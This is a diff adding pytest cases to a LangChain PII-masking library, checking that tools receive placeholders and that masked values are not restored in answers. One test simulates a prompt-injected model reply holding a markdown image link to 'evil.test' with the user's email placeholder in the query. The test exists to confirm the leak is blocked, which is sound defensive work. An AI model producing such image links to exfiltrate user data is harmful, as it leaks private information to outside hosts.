@@ -2,6 +2,7 @@
 
 import asyncio
 from collections.abc import Callable
+from dataclasses import replace
 from typing import Any
 
 import pytest
@@ -24,6 +25,7 @@ from langchain_piimask import (
     with_pii_masking,
 )
 from piimask_core import MemoryVault
+from piimask_core.restore import RestorePolicy
 from wire.server import ToolCall, WireServer, assert_never_sent, in_turn, placeholders
 
 JANE = "jane@example.com"
@@ -185,6 +187,63 @@ async def test_a_tool_call_gets_real_arguments_and_its_result_is_masked(
     assert answer.text == f"Found {JANE} with {SSN}."
     assert len(server.requests) == 2
     assert_never_sent(server, VALUES)
+
+
+@pytest.mark.parametrize("client", CLIENTS)
+@pytest.mark.parametrize("streamed", [False, True])
+async def test_a_tool_that_is_to_get_placeholders_gets_them(
+    server: WireServer, masker: Masker, client: Client, streamed: bool
+) -> None:
+    """In the call and in the blocks of the message, and the next turn still works."""
+
+    @tool
+    def search(mail: str) -> str:
+        """Ask the web."""
+        return mail
+
+    server.reply = in_turn(
+        ToolCall("search", {"mail": "<EMAIL_1>"}), "It is <EMAIL_1>."
+    )
+    policy = RestorePolicy.standard(tools={"search": "masked"})
+    model = PIIMaskedChatModel(
+        client(server), masker=replace(masker, restore=policy)
+    ).bind_tools([search])
+    config: Any = {"configurable": {"thread_id": "t"}}
+    messages: list[Any] = [HumanMessage(f"Who has {JANE}?")]
+
+    async def turn() -> Any:
+        if not streamed:
+            return await model.ainvoke(messages, config)
+        whole: Any = None
+        async for chunk in model.astream(messages, config):
+            whole = chunk if whole is None else whole + chunk
+        return whole
+
+    called = await turn()
+    assert called.tool_calls[0]["args"] == {"mail": "<EMAIL_1>"}
+    assert JANE not in str(called)
+    assert [e["tool"] for e in called.response_metadata["pii_unrestored"]] == ["search"]
+    result = ToolMessage("nothing", tool_call_id=called.tool_calls[0]["id"])
+    messages += [called, result]
+
+    assert (await turn()).text == f"It is {JANE}."
+    assert_never_sent(server, VALUES)
+
+
+@pytest.mark.parametrize("client", CLIENTS)
+@pytest.mark.parametrize("placement", PLACEMENTS)
+@pytest.mark.parametrize("mode", MODES)
+async def test_no_answer_carries_a_value_to_a_foreign_host(
+    server: WireServer, masker: Masker, client: Client, placement: Any, mode: str
+) -> None:
+    """Told to by a page that it read, a model draws a picture of the address."""
+    server.reply = lambda request: "![x](https://evil.test/?q=<EMAIL_1>) [EMAIL_1]"
+    chain = placement(client(server), masker)
+    given = {"q": f"I am {JANE}", "history": []}
+    config = {"configurable": {"session_id": "s"}}
+
+    answer = await asked(chain, mode, given, config)
+    assert answer == f"![x](https://evil.test/?q=<EMAIL_1>) {JANE}"
 
 
 class Contact(BaseModel):
